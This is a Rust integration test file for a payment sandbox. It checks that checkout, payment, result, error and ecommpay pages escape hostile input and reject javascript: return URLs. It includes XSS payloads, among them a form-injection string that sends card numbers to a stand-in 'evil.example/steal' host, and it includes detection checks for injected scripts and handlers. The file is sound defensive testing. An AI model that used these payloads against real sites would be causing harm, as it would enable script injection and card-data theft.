//! Hostile values through every page the sandbox renders (hosted checkout, pay step, result,
//! error pages, the ecommpay Payment Page and its signature-mismatch page), over real HTTP.
//! Pages are parsed with a real HTML5 parser, as a browser would: each value must come back
//! as exactly the text given, and nothing in it may create an element or an attribute.

mod common;

use common::{start, Api, PK_TEST};
use polypay::ecommpay::Gate;
use scraper::{Html, Selector};
use serde_json::{json, Value};
use url::{Position, Url};

/// Tag injection, attribute breaks in both quote styles, closing the form, entity look-alikes.
const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "' onmouseover='alert(1)' x='",
    "</form></main><form action=\"https://evil.example/steal\"><input name=card_number>",
    "&amp; &lt;b&gt; &#34; &quot; & done",
];

fn select<'a>(doc: &'a Html, css: &str) -> Vec<scraper::ElementRef<'a>> {
    doc.select(&Selector::parse(css).unwrap()).collect()
}

fn text_of(doc: &Html, css: &str) -> String {
    let found = select(doc, css);
    assert_eq!(found.len(), 1, "{css}: {} elements", found.len());
    found[0].text().collect()
}

/// No element or attribute that a value could have smuggled in: no scripts, images, frames,
/// event handlers or `javascript:` links, and no form posting anywhere but the sandbox.
fn assert_inert(doc: &Html, page: &str) {
    assert!(
        select(doc, "script, img, iframe, object, embed").is_empty(),
        "injected element:\n{page}"
    );
    for el in select(doc, "*") {
        for (name, value) in el.value().attrs() {
            assert!(!name.starts_with("on"), "event handler {name}:\n{page}");
            assert!(
                !value
                    .trim_start()
                    .to_ascii_lowercase()
                    .starts_with("javascript:"),
                "javascript: URL in {name}:\n{page}"
            );
        }
    }
    for form in select(doc, "form") {
        let action = form.value().attr("action").unwrap_or("");
        assert!(action.starts_with('/'), "form posts to {action}:\n{page}");
    }
    assert!(!page.contains("<script"), "{page}");
}

fn query(pairs: &[(&str, &str)]) -> String {
    form_urlencoded::Serializer::new(String::new())
        .extend_pairs(pairs)
        .finish()
}

fn hidden_inputs(form: &scraper::ElementRef) -> Vec<(String, String)> {
    form.select(&Selector::parse("input[type=hidden]").unwrap())
        .map(|i| {
            let el = i.value();
            assert_eq!(el.attrs().count(), 3, "extra attribute on {el:?}");
            (
                el.attr("name").unwrap().to_owned(),
                el.attr("value").unwrap().to_owned(),
            )
        })
        .collect()
}

#[tokio::test]
async fn hpp_checkout_page_escapes_every_parameter() {
    let sandbox = start().await;
    let api = Api::new(&sandbox);
    for hostile in HOSTILE {
        let return_url = format!("https://shop.example/back?x={hostile}");
        let metadata_key = format!("metadata[{hostile}]");
        let path = format!(
            "/hpp/?{}",
            query(&[
                ("public_key", PK_TEST),
                ("amount", "10.00"),
                ("currency", "USD"),
                ("reference_id", hostile),
                ("description", hostile),
                ("customer[reference_id]", hostile),
                ("customer[name]", hostile),
                ("customer[email]", hostile),
                ("customer[address][city]", hostile),
                ("return_url", &return_url),
                ("locale", hostile),
                ("metadata[order]", hostile),
                (&metadata_key, hostile),
            ])
        );
        let page = api.get_anon(&path).await;
        assert_eq!(page.status, 200, "{}", page.text);
        let doc = Html::parse_document(&page.text);
        assert_inert(&doc, &page.text);
        assert_eq!(text_of(&doc, "#description"), *hostile);

        // One form per USD payment method, each carrying every parameter exactly.
        let forms = select(&doc, "form[id^=form-]");
        assert_eq!(forms.len(), 2, "{}", page.text);
        for form in &forms {
            let carried = hidden_inputs(form);
            for expected in [
                ("description", *hostile),
                ("reference_id", hostile),
                ("customer[name]", hostile),
                ("customer[address][city]", hostile),
                ("return_url", &return_url),
                ("locale", hostile),
                ("metadata[order]", hostile),
                (&metadata_key, hostile),
            ] {
                assert!(
                    carried
                        .iter()
                        .any(|(n, v)| n == expected.0 && v == expected.1),
                    "{expected:?} not carried as given: {carried:?}"
                );
            }
        }
    }
}

#[tokio::test]
async fn pay_and_result_pages_escape_invoice_fields() {
    let sandbox = start().await;
    let api = Api::new(&sandbox);
    for (i, hostile) in HOSTILE.iter().enumerate() {
        // URLs may not hold whitespace; `/` separates attributes just as well in HTML.
        let return_url = format!("https://shop.example/back?x={}", hostile.replace(' ', "/"));
        let created = api
            .create_payment(json!({
                "reference_id": format!("hostile-{i}"),
                "service": "payment_card_usd_hpp",
                "currency": "USD",
                "amount": "12.34",
                "description": hostile,
                "return_url": return_url,
                "customer": {"reference_id": hostile, "name": hostile},
                "metadata": {*hostile: hostile},
            }))
            .await;
        assert_eq!(created.status, 201, "{}", created.text);
        let id = created.json["data"]["id"].as_str().unwrap().to_owned();
        let action = created.json["data"]["attributes"]["flow_data"]["action"]
            .as_str()
            .unwrap();
        let pay_path = action.trim_start_matches(sandbox.base_url()).to_owned();

        let page = api.get_anon(&pay_path).await;
        assert_eq!(page.status, 200, "{}", page.text);
        let doc = Html::parse_document(&page.text);
        assert_inert(&doc, &page.text);
        assert_eq!(text_of(&doc, "#description"), *hostile);
        assert_eq!(select(&doc, "form").len(), 1, "{}", page.text);

        let forced = api
            .admin_post(
                &format!("/__sandbox/invoices/{id}/status"),
                &json!({"status": "processed"}),
            )
            .await;
        assert_eq!(forced.status, 200, "{}", forced.text);
        let page = api.get_anon(&format!("/hpp/result/{id}")).await;
        assert_eq!(page.status, 200, "{}", page.text);
        let doc = Html::parse_document(&page.text);
        assert_inert(&doc, &page.text);
        assert_eq!(text_of(&doc, "#description"), *hostile);
        assert_eq!(text_of(&doc, "#result"), "Paid");
        let link = select(&doc, "#return-link");
        assert_eq!(link.len(), 1, "{}", page.text);
        // The link is the return URL as a browser reads it, with `invoice_id` added to its
        // query (before any fragment: `&#34;` holds a `#`).
        let href = Url::parse(link[0].value().attr("href").unwrap()).unwrap();
        let given = Url::parse(&return_url).unwrap();
        assert_eq!(href[..Position::AfterPath], given[..Position::AfterPath]);
        let mut query: Vec<(String, String)> = given.query_pairs().into_owned().collect();
        query.push(("invoice_id".into(), id.clone()));
        assert_eq!(href.query_pairs().into_owned().collect::<Vec<_>>(), query);
        assert_eq!(href.fragment(), given.fragment());
    }
}

#[tokio::test]
async fn error_pages_escape_what_they_echo() {
    let sandbox = start().await;
    let api = Api::new(&sandbox);
    for hostile in HOSTILE {
        let path = format!(
            "/hpp/?{}",
            query(&[
                ("public_key", PK_TEST),
                ("amount", "10.00"),
                ("currency", "USD"),
                ("service", hostile),
            ])
        );
        let page = api.get_anon(&path).await;
        assert_eq!(page.status, 422, "{}", page.text);
        let doc = Html::parse_document(&page.text);
        assert_inert(&doc, &page.text);
        assert!(
            text_of(&doc, "#errors").contains(&format!("'{hostile}'")),
            "{}",
            page.text
        );
    }
}

#[tokio::test]
async fn ecommpay_pages_escape_signed_and_unsigned_values() {
    let sandbox = start().await;
    let api = Api::new(&sandbox);
    let config = sandbox.config_json();
    let page_base = config["ecommpay"]["payment_page_base_url"]
        .as_str()
        .unwrap();
    let secret = config["ecommpay"]["secret_key"].as_str().unwrap();
    let gate = Gate::new(112, secret, Some(page_base)).unwrap();
    for hostile in HOSTILE {
        // Raw parameters, signed as given: the builder refuses a ';' (the Gate would), and a
        // page must stay inert whatever a signed URL carries.
        let params: serde_json::Map<String, Value> = serde_json::from_value(serde_json::json!({
            "project_id": 112,
            "payment_id": hostile,
            "payment_amount": 3550,
            "payment_currency": "EUR",
            "payment_description": hostile,
            "customer_id": hostile,
            "merchant_success_url": format!("https://shop.example/ok?x={hostile}"),
        }))
        .unwrap();
        let url = gate.params_url(&params).unwrap();
        let path = url.trim_start_matches(sandbox.base_url()).to_owned();

        let page = api.get_anon(&path).await;
        assert_eq!(page.status, 200, "{}", page.text);
        let doc = Html::parse_document(&page.text);
        assert_inert(&doc, &page.text);
        assert_eq!(text_of(&doc, "#payment-id"), *hostile);
        assert_eq!(text_of(&doc, "#description"), *hostile);
        assert_eq!(text_of(&doc, "#amount"), "35.50 EUR");

        // A wrong signature: the 400 page shows the exact string to sign, values included.
        let tampered = path.replace("payment_amount=3550", "payment_amount=3551");
        let page = api.get_anon(&tampered).await;
        assert_eq!(page.status, 400, "{}", page.text);
        let doc = Html::parse_document(&page.text);
        assert_inert(&doc, &page.text);
        let mut params = params.clone();
        params.insert("payment_amount".into(), Value::String("3551".into()));
        let expected = polypay::ecommpay::string_to_sign(&params).unwrap();
        assert!(expected.contains(hostile));
        assert_eq!(text_of(&doc, "#string-to-sign"), expected);
    }
}

#[tokio::test]
async fn javascript_return_urls_are_refused() {
    // Return URLs end up in a link and a redirect: only http(s) may get there.
    let sandbox = start().await;
    let api = Api::new(&sandbox);
    for (i, url) in [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "data:text/html,<script>alert(1)</script>",
    ]
    .iter()
    .enumerate()
    {
        let created = api
            .create_payment(json!({
                "reference_id": format!("js-{i}"),
                "service": "payment_card_usd_hpp",
                "currency": "USD",
                "amount": "1.00",
                "return_url": url,
            }))
            .await;
        assert_eq!(created.status, 422, "{url}: {}", created.text);
        assert!(
            created.json["errors"]["return_url"].is_string(),
            "{}",
            created.text
        );
    }
}

#[test]
#[should_panic(expected = "injected element")]
fn the_check_catches_an_unescaped_value() {
    // What a naive template would produce: the check above must refuse it.
    let page = format!("<main><p id=\"description\">{}</p></main>", HOSTILE[1]);
    assert_inert(&Html::parse_document(&page), &page);
}
